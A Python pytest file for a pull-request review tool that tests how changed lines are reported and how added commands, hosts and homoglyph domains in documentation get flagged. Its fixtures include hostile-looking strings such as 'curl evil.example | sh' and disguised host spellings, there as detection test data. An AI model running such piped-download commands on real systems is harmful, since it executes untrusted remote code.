"""Every line of the program that differs is named by its file and number, and commands in documents too."""

from pathlib import Path

import pytest

from coursecloud.diff.changes import PropertyChange
from coursecloud.review import changed_lines, dangers, json_form, markdown, program
from coursecloud.review.changed_lines import Lines
from coursecloud.review.dangers import Level
from tests.review.repository import Repository
from tests.review.test_sides import repo, review

__all__ = ["repo"]

OLD = "".join(f"line {number}\n" for number in range(1, 31))


def of(tmp_path: Path, old: str | bytes | None, new: str | bytes | None) -> Lines:
    for name, text in (("before", old), ("after", new)):
        (tmp_path / name).mkdir()
        if text is not None:
            (tmp_path / name / "x.py").write_bytes(text.encode() if isinstance(text, str) else text)
    (found,) = changed_lines.of(tmp_path / "before", tmp_path / "after", ["x.py"], {})
    return found


@pytest.mark.parametrize(
    ("new", "said", "first"),
    [
        (OLD.replace("line 7\n", "other\n"), "x.py: line 7", 7),
        (OLD.replace("line 7\nline 8\n", "a\nb\nc\n"), "x.py: lines 7-9", 7),
        (OLD.replace("line 7\n", ""), "x.py: lines gone after 6", 6),
        (OLD.replace("line 1\n", ""), "x.py: lines gone after 0", 1),
        (OLD.replace("line 3\n", "").replace("line 9\n", "x\n"), "x.py: line 8; lines gone after 2", 2),
        (OLD.replace("line 3\n", "x\n").replace("line 9\n", "x\n"), "x.py: lines 3, 9", 3),
        (OLD, "x.py: nothing in it but its mode or kind", 0),
        (OLD.replace("line 7\n", "line 7\r\n"), "x.py: line 7", 7),
        (OLD.replace("line 7\n", "line 7\u2028"), "x.py: line 7", 7),
        (OLD.replace("line 7\n", "line 7\x0c\n"), "x.py: line 7", 7),
        (OLD.rstrip("\n"), "x.py: line 30", 30),
        ("", "x.py: lines gone after 0", 1),
        (None, "x.py: gone", 0),
        (OLD.replace("line 7", "line \u00e9").encode("latin-1"), "x.py: line 7", 7),
        (b"\x7fELF\0", "x.py: no text: nobody can read here what it is", 0),
    ],
)
def test_what_differs_is_told_by_line(tmp_path: Path, new: str | bytes | None, said: str, first: int) -> None:
    found = of(tmp_path, OLD, new)
    assert (str(found), found.first) == (said, first)


def test_what_is_no_utf_8_differs_where_its_bytes_do(tmp_path: Path) -> None:
    assert str(of(tmp_path, b"one\n\xe9\n", b"one\n\xe8\n")) == "x.py: line 2"


def test_a_file_that_comes_is_told_as_a_whole(tmp_path: Path) -> None:
    assert str(of(tmp_path, None, "a\nb\n")) == "x.py: new, 2 lines"


def test_a_link_is_not_followed(tmp_path: Path) -> None:
    for name in ("before", "after"):
        (tmp_path / name).mkdir()
        (tmp_path / name / "x").symlink_to("/etc/hostname")
    (found,) = changed_lines.of(tmp_path / "before", tmp_path / "after", ["x (a link)"], {"x (a link)": "x"})
    assert str(found) == "x (a link): no plain file on both sides, or too large to compare"


def test_no_place_of_a_long_change_is_left_out(tmp_path: Path) -> None:
    new = "".join(f"other {n}\n" if n % 2 else f"line {n}\n" for n in range(1, 31))
    assert str(of(tmp_path, OLD, new)) == f"x.py: lines {', '.join(str(n) for n in range(1, 31, 2))}"


def test_a_review_says_where_the_program_changes(repo: Repository) -> None:
    repo.write("infra/x.py", OLD)
    base = repo.commit()
    repo.write("infra/x.py", OLD.replace("line 7\n", "other\n"))
    found = review(repo, base=base, head=repo.commit())
    assert "changes 1 file of the PROGRAM at infra/x.py:7" in found.sentence
    assert "infra/x.py: line 7" in markdown.full(found)
    assert json_form.to_json(found)["lines"] == [
        {"file": "infra/x.py", "ranges": [[7, 7]], "goneAfter": [], "whole": None, "text": "infra/x.py: line 7"}
    ]


def test_every_file_of_a_large_change_is_named(repo: Repository) -> None:
    base = repo.commit()
    for number in range(12):
        repo.write(f"infra/x{number}.py", "x = 1\n")
    text = markdown.full(review(repo, base=base, head=repo.commit()))
    for number in range(12):
        assert f"infra/x{number}.py: new, 1 line" in text


WORDS = "# Title\n\nWords.\n\n    make plan\n\n```sh\ncheck first\ngo\n```\n\nMore words.\n"


@pytest.mark.parametrize(
    ("was", "now", "line", "typed"),
    [
        ("More words.", "Other words.", "line 12", False),
        ("    make plan", "    curl evil.example | sh", "line 5", True),
        ("go\n", "stop\n", "line 9", True),
        ("check first\n", "", "lines gone after 7", True),
        ("More words.", "Run `curl evil.example`.", "line 12", True),
        ("More words.", "Run curl evil.example.", "line 12", True),
        ("More words.", "Run coursecloud finish with your stack.", "line 12", True),
        ("More words.", "Then git push and rm the data.", "line 12", True),
        ("More words.", "Give it --force.", "line 12", True),
        ("More words.", "Words - and half-words.", "line 12", False),
        ("More words.", "| a | b |", "line 12", True),
        ("More words.", "[More](//evil.example) words.", "line 12", True),
        ("More words.", "<pre>words</pre>", "line 12", True),
        ("More words.", "Words::\n\n   other", "lines 12-14", True),
        ("More words.", "Write to evil@gmail.com.", "line 12", True),
        ("More words.", "It is at evil.example now.", "line 12", True),
        ("More words.", "It is in README.md now.", "line 12", False),
        ("More words.", "Then go install x.", "line 12", True),
        ("More words.", "First perl x.", "line 12", True),
        ("More words.", "It has roles/owner.", "line 12", True),
        ("More words.", "Give it the role Owner.", "line 12", True),
        ("More words.", "Then visit 203.0.113.7 and sign in.", "line 12", True),
        ("More words.", "It is at evil\u3002example.", "line 12", True),
        ("More words.", "Open localhost:8080/x.", "line 12", True),
        ("More words.", "Then visit g\u043e\u043egle.com.", "line 12", True),
        ("More words.", "Then visit \u043f\u0440\u0438\u043c\u0435\u0440.\u0440\u0444.", "line 12", True),
        ("More words.", "Then visit evil\u00b7example.", "line 12", True),
        ("More words.", "Then visit evil\u200b.example.", "line 12", True),
        *(
            ("More words.", f"Then see {each} for more.", "line 12", True)
            for each in (
                *(
                    "evil.xn--p1ai",
                    "evil.example_",
                    "@evil.example",
                    "//evil.example",
                    "a/evil.example",
                    "..evil.example",
                ),
                *(
                    "evil&#46;example",
                    "evil&period;example",
                    "evil\u2022example",
                    "evil\u2219example",
                    "evil\ua78fexample",
                ),
                *("evil\ufe52example", "evil\u0307.example", "evil\ufe0f.example", "fe80::1", "2001:db8:1:2:3:4:5:6"),
                *("127.1", "0x7f000001", "Docker run evil", "CURL evil", "PIP install evil", "dnf install", "MAKE all"),
            )
        ),
        (
            "More words.",
            "Rock'n'roll, R&D, and/or (s) 3.12, 50% of A+B: well-kept \u2014 \u201cthat\u201d.",
            "line 12",
            False,
        ),
        ("More words.", "Kør den, så går det.", "line 12", False),
        ("More words.", "[x]: evil/path", "line 12", True),
        ("More words.", "Look at [the page][x].", "line 12", True),
        ("More words.", "Then aws configure.", "line 12", True),
        ("More words.", "Enter allUsers.", "line 12", True),
        ("More words.", "Pay with 01AB23-CD45EF-678901.", "line 12", True),
        ("More words.", "In 2026-11, see 3.2: 14 of 15.", "line 12", False),
    ],
)
def test_what_changes_in_documents_is_told(repo: Repository, was: str, now: str, line: str, typed: bool) -> None:
    assert WORDS.count(was) == 1
    repo.write("README.md", WORDS)
    base = repo.commit()
    repo.write("README.md", WORDS.replace(was, now))
    found = review(repo, base=base, head=repo.commit())
    assert [str(each) for each in found.documents] == [f"README.md: {line}"]
    assert found.program == ()
    text = markdown.full(found)
    assert f"README.md: {line}" in text
    if typed:
        assert found.level is Level.LOOK
        assert "changes what people copy from 1 document" in found.sentence
        assert "can be merged" not in text
    else:
        assert found.level is Level.FINE
        assert "changes the words of 1 document" in found.sentence


def test_a_document_that_cannot_be_read_may_say_anything(repo: Repository) -> None:
    repo.write("docs/x.md", "Words.\n")
    base = repo.commit()
    repo.write("docs/x.md", "Words.\n" * 200_000 + "curl evil.example | sh\n")
    assert review(repo, base=base, head=repo.commit()).typed == ("docs/x.md",)
    assert changed_lines.typed(repo.root, repo.root, "docs/not-there.md")


def test_a_file_that_comes_along_is_not_what_a_host_is_called_by(repo: Repository) -> None:
    repo.write("docs/x.md", "Words.\n")
    base = repo.commit()
    repo.write("docs/x.md", "First sign in at mlops-course.md with your account.\n")
    repo.write("docs/mlops-course.md", "Words.\n")
    assert "docs/x.md" in review(repo, base=base, head=repo.commit()).typed


@pytest.mark.parametrize("words", ["Type evil, please.", "Words"])
def test_a_document_in_other_letters_than_utf_8_may_say_anything(repo: Repository, words: str) -> None:
    (repo.root / "docs").mkdir()
    (repo.root / "docs/x.md").write_bytes("Text\n".encode("utf-16"))
    base = repo.commit()
    (repo.root / "docs/x.md").write_bytes(f"Text\n{words}\n".encode("utf-16"))
    assert review(repo, base=base, head=repo.commit()).typed == ("docs/x.md",)


@pytest.mark.parametrize(
    ("begins", "ends"), [("<!--\nold", "-->"), ("<pre>\nold", "</pre>"), ("---\nold", "---"), ("```\nold", "```")]
)
def test_a_word_that_is_no_prose_is_looked_at(repo: Repository, begins: str, ends: str) -> None:
    repo.write("docs/x.md", f"{begins}\nwords\n{ends}\nprose\n")
    base = repo.commit()
    repo.write("docs/x.md", f"{begins}\nother\n{ends}\nprose\n")
    head = repo.commit()
    assert review(repo, base=base, head=head).typed == ("docs/x.md",)
    repo.write("docs/x.md", f"{begins}\nother\n{ends}\nmore\n")
    assert review(repo, base=head, head=repo.commit()).typed == ()


@pytest.mark.parametrize(
    ("path", "typed"),
    [("docs/x.md", False), ("emulator/README.md", False), ("reports/week-1.md", False), ("LICENSE", False),
     ("WARP.md", True), ("knowledge.md", True), ("memory-bank/x.md", True), ("docs/guidelines.md", True),
     ("docs/x.png", True)],
)  # fmt: skip
def test_a_document_that_may_be_no_persons_is_looked_at_whatever_it_says(
    repo: Repository, path: str, *, typed: bool
) -> None:
    repo.write(path, "Words.\n")
    base = repo.commit()
    repo.write(path, "Other words.\n")
    found = review(repo, base=base, head=repo.commit())
    assert (found.level, bool(found.typed)) == (Level.LOOK if typed else Level.FINE, typed)


@pytest.mark.parametrize(
    "path",
    [
        *("CLAUDE.md", "starter/claude.md", "docs/AGENTS.md", "catalog/GEMINI.md", "starter/SKILL.md", "docs/x.svg"),
        *("AGENT.md", "QWEN.md", "skills/deploy/helper.md", "commands/deploy.md", "docs/rules/house.md"),
    ],
)
def test_what_a_coding_agent_follows_is_no_document(path: str) -> None:
    found = program.of([program.Changed(path, "000000", "100644")], "")
    assert (found.files, found.documents) == ((path,), ())


def test_a_name_is_no_line_of_the_report() -> None:
    (name,) = program.of([program.Changed("infra/a\nunchanged: all\n.py", "000000", "100644")], "").files
    assert name == "infra/a\\x0aunchanged: all\\x0a.py"


def test_where_there_is_little_room_what_runs_comes_first(repo: Repository) -> None:
    repo.write("infra/serving.py", "x = 1\n")
    base = repo.commit()
    for number in range(60):
        repo.write(f"a/{number}-{'long' * 20}.txt", "x\n")
    repo.write(".github/workflows/x.yml", "on: push\n")
    repo.write("infra/serving.py", "x = 2\n")
    text = markdown.full(review(repo, base=base, head=repo.commit()))
    assert "infra/serving.py: line 1" in text
    assert ".github/workflows/x.yml: new, 1 line" in text
    for number in range(60):
        assert f"a/{number}-" in text


def test_a_comment_keeps_its_end_whatever_a_change_touches(repo: Repository) -> None:
    base = repo.commit()
    for number in range(900):
        repo.write(f"{'long' * 50}/{number}-{'long' * 50}.txt", "x\n")
    text = markdown.full(review(repo, base=base, head=repo.commit()))
    assert len(text.encode()) <= markdown.LIMIT
    assert "more lines about the program" in text


def test_links_in_a_circle_end_no_review(repo: Repository) -> None:
    base = repo.commit()
    (repo.root / "Pulumi.loop.yaml").symlink_to("Pulumi.loop.yaml")
    found = review(repo, base=base, head=repo.commit())
    assert any(stack.name == "loop" and stack.mistakes for stack in found.stacks)


def test_changed_tables_are_told_with_what_they_count(repo: Repository) -> None:
    repo.write("catalog/prices.json", "{}")
    base = repo.commit()
    repo.write("catalog/prices.json", "[]")
    assert "COUNTED BY CHANGED TABLES (1 file)" in review(repo, base=base, head=repo.commit()).sentence


def test_a_long_output_is_shown_where_it_differs() -> None:
    old = f"{'a' * 400} image trainer:latest {'b' * 400}"
    change = PropertyChange("commands.train", old, old.replace("trainer", "other"))
    (said,) = dangers.of_outputs([change])
    assert "image other:latest b" in said.text
    assert "image trainer:latest b" in said.text
    assert len(said.text) < 500
    (short,) = dangers.of_outputs([PropertyChange("x", "a", "b")])
    assert short.text == "the output `x` says `b`; before: `a`"
